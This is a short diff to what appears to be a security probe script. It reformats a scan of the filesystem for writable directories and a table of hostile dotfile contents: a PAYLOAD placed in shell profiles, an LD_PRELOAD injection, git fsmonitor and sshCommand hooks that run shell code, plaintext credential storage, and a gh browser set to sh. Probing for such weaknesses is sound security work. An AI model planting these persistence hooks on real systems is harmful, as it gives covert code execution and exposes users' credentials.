@@ -229,9 +229,7 @@ def writes_anywhere_at_all() -> object:
     ).stdout.strip()
     found, began = [], time.monotonic()
     for top, names, _files in os.walk("/"):
-        if top.startswith((*mine, common or "/proc")) or top.startswith(
-            ("/usr/share", "/usr/lib/python", "/sys/devices")
-        ):
+        if top.startswith((*mine, common or "/proc", "/usr/share", "/usr/lib/python", "/sys/devices")):
             names.clear()
         elif os.access(top, os.W_OK):
             with contextlib.suppress(OSError):
@@ -657,7 +655,8 @@ def home_files_that_programs_obey() -> object:
         ".bash_profile": PAYLOAD,
         ".zshenv": PAYLOAD,
         ".pam_environment": "LD_PRELOAD=/tmp/x.so\n",
-        ".gitconfig": f"[core]\n\thooksPath = ~/hooks\n\tfsmonitor = sh -c '{PAYLOAD}' fs\n\tsshCommand = sh -c '{PAYLOAD}'\n"
+        ".gitconfig": f"[core]\n\thooksPath = ~/hooks\n\tfsmonitor = sh -c '{PAYLOAD}' fs\n"
+        f"\tsshCommand = sh -c '{PAYLOAD}'\n"
         "[alias]\n\tstatus = !false\n"
         "[include]\n\tpath = /dev/zero\n[credential]\n\thelper = store\n[safe]\n\tdirectory = *\n",
         ".config/gh/config.yml": "http_unix_socket: /tmp/owned\nbrowser: sh\n"
